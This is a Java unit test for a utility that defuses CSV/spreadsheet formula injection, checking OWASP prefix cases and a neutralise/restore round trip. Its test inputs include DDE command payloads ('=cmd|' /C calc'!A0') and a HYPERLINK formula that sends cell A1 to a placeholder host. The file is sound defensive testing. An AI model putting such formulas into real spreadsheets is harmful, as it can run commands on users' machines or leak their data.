package org.anchornetwork.common.web;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.ArrayList;
import java.util.List;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** OWASP's CSV injection guidance, prefix by prefix, and restore as the exact inverse of neutralise. */
class SpreadsheetCellsTest {

    /** Every start OWASP lists, their full-width forms, and formula starts after leading spaces or quotes. */
    @ParameterizedTest
    @ValueSource(strings = { "=1+1", "+1+1", "-1+1", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "\n=1+1", "\tplain", "\rplain",
        "\nplain", "=cmd|' /C calc'!A0", "@cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://example.invalid?\"&A1,\"x\")", "\uFF1D1+1", "\uFF0B1", "\uFF0D1", "\uFF20SUM(1)", " =1+1",
        "   @x", "\u00a0=1+1", "\"=1+1", "'=1+1", "\" '+1", "-", "+44 1325 000000", "-12.50 credit", "--12" })
    void formulaLikeTextGetsAnApostrophe(String text) {
        assertEquals("'" + text, SpreadsheetCells.neutralise(text));
    }

    @ParameterizedTest
    @ValueSource(strings = { "-12.50", "-959.84", "12.50", "0", "-3", "Smith (Darlington) Ltd", "O'Brien & Sons", "a=b",
        "x-1", "ends with =", "100%", "|pipe", "%0A", "", "'plain quoted", "\"quoted\"" })
    void plainNumbersAndOrdinaryTextStayAsTheyAre(String text) {
        assertEquals(text, SpreadsheetCells.neutralise(text));
    }

    @Test
    void nullBecomesAnEmptyCell() {
        assertEquals("", SpreadsheetCells.neutralise(null));
    }

    @Test
    void restoreUndoesNeutraliseForEveryTextIncludingApostrophesOfItsOwn() {
        List<String> texts = new ArrayList<>(List.of("=1+1", "'=1+1", "''=1+1", "'", "''", "'x", "'\tx", "\t", "'-12.50",
                "-12.50", " =x", "'\" =x", "plain", "'plain", "", "=", "'="));
        String alphabet = "=+-@'\" \tx1.\r";
        for (char a : alphabet.toCharArray()) {
            for (char b : alphabet.toCharArray()) {
                for (char c : alphabet.toCharArray()) {
                    texts.add("" + a + b + c);
                }
            }
        }
        for (String text : texts) {
            String exported = SpreadsheetCells.neutralise(text);
            assertEquals(text, SpreadsheetCells.restore(exported), () -> "round trip of [" + text + "] via [" + exported + "]");
            assertTrue(exported.equals(text) || exported.equals("'" + text));
        }
    }

    @Test
    void restoreLeavesCellsOurExportsWouldNotHaveWrittenAlone() {
        assertEquals("'plain", SpreadsheetCells.restore("'plain"));
        assertEquals("'-12.50", SpreadsheetCells.restore("'-12.50"));
        assertEquals("=x", SpreadsheetCells.restore("'=x"));
    }
}
